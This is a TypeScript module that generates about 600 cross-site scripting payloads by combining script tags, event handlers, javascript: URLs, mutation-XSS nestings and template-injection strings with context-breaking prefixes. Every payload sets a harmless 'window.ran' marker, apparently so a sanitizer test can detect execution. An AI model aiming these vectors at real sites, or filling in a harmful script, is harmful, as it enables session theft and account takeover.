/** More than five hundred ways to make a browser run `window.ran = 1`, by crossing carriers, ways to write them and what they break out of. */
const CARRIERS = [
  '<script>window.ran=1</script>',
  '<img src=x onerror=window.ran=1>',
  '<svg onload=window.ran=1>',
  '<svg><script href=data:,window.ran=1 />',
  '<svg><animate onbegin=window.ran=1 attributeName=x>',
  '<body onload=window.ran=1>',
  '<iframe srcdoc="<script>parent.ran=1</script>">',
  '<iframe src=javascript:parent.ran=1>',
  '<video><source onerror=window.ran=1>',
  '<audio src=x onerror=window.ran=1>',
  '<details open ontoggle=window.ran=1>',
  '<input autofocus onfocus=window.ran=1>',
  '<select autofocus onfocus=window.ran=1>',
  '<textarea autofocus onfocus=window.ran=1>',
  '<marquee onstart=window.ran=1>',
  '<object data=javascript:window.ran=1>',
  '<embed src=javascript:window.ran=1>',
  '<math><mtext><style><img src=x onerror=window.ran=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  '<template><img src=x onerror=window.ran=1></template>',
  '<a href=javascript:window.ran=1 autofocus onfocus=window.ran=1 tabindex=1>x</a>',
  '<form action=javascript:window.ran=1><button>x</button></form>',
  '<meta http-equiv=refresh content="0;url=javascript:window.ran=1">',
  '<base href=javascript:window.ran=1//>',
  '<link rel=stylesheet href=data:,*{x:expression(window.ran=1)}>',
  '<style>@import "javascript:window.ran=1";</style>',
  '<div style=animation-name:x onanimationstart=window.ran=1>',
  '{{constructor.constructor("window.ran=1")()}}',
  '${window.ran=1}',
  'javascript:window.ran=1',
];
const BREAKS = ['', '">', "'>", '</textarea>', '</title>', '--><!-- ', ']]>', '</script>', '\\";', '<!--<p>'];
const WRITTEN: ((payload: string) => string)[] = [(plain) => plain, (plain) => plain.toUpperCase().replaceAll('WINDOW.RAN', 'window.ran')];

export const PAYLOADS: readonly string[] = CARRIERS.flatMap((carrier) => BREAKS.flatMap((broken) => WRITTEN.map((write) => write(broken + carrier))));
